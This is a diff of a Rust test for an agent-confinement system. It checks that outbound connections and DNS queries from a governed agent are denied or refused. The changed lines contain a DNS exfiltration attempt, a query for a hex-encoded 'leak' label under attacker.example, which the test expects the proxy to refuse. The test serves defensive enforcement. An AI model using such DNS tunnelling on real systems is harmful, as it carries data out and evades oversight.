@@ -119,23 +119,31 @@ fn a_governed_agent_cannot_get_out() {
     assert_eq!(agent.cmd("sendmmsg udp 203.0.113.6 5353"), "err EPERM");
     assert_eq!(agent.cmd("fastopen 203.0.113.7 443"), "err EPERM");
     assert_eq!(agent.cmd("uring-connect 203.0.113.8 443"), "err EPERM");
-    assert_eq!(agent.cmd("uring-sendmsg 203.0.113.9 53"), "err EPERM");
+    assert_eq!(agent.cmd("uring-sendmsg 203.0.113.9 5354"), "err EPERM");
     assert_eq!(agent.cmd("uring-connect 192.0.2.10 443"), "err ENETUNREACH");
     for (dest, port) in [
         ("203.0.113.6", 5353),
         ("203.0.113.7", 443),
         ("203.0.113.8", 443),
-        ("203.0.113.9", 53),
+        ("203.0.113.9", 5354),
     ] {
         let r = denial(&node.socket, dest, port);
         assert_eq!(r["identity"], ID);
         assert_eq!(r["reason"], "no rule allows it");
     }
 
-    // DNS to a resolver no rule names, over UDP and TCP.
-    assert_eq!(agent.cmd("connect udp 203.0.113.53 53"), "err EPERM");
-    assert_eq!(agent.cmd("connect tcp 203.0.113.53 53"), "err EPERM");
-    denial(&node.socket, "203.0.113.53", 53);
+    // DNS, to any resolver: it goes to the node's proxy, which refuses every name this
+    // identity's policy does not allow (all of them: it has no name rules), over UDP and TCP.
+    // Nothing is forwarded: a query is not a way out.
+    for (mode, ty) in [("udp", "TXT"), ("tcp", "TXT"), ("udpu", "A")] {
+        assert_eq!(
+            agent.cmd(&format!(
+                "resolve 6c65616b.attacker.example 203.0.113.53 {mode} {ty}"
+            )),
+            "rcode Refused",
+            "{mode} {ty}"
+        );
+    }
 
     // A socket an unenrolled process made and passed over SCM_RIGHTS is judged by the task
     // that calls connect(): the agent's identity, so denied. (The reverse, an agent's socket
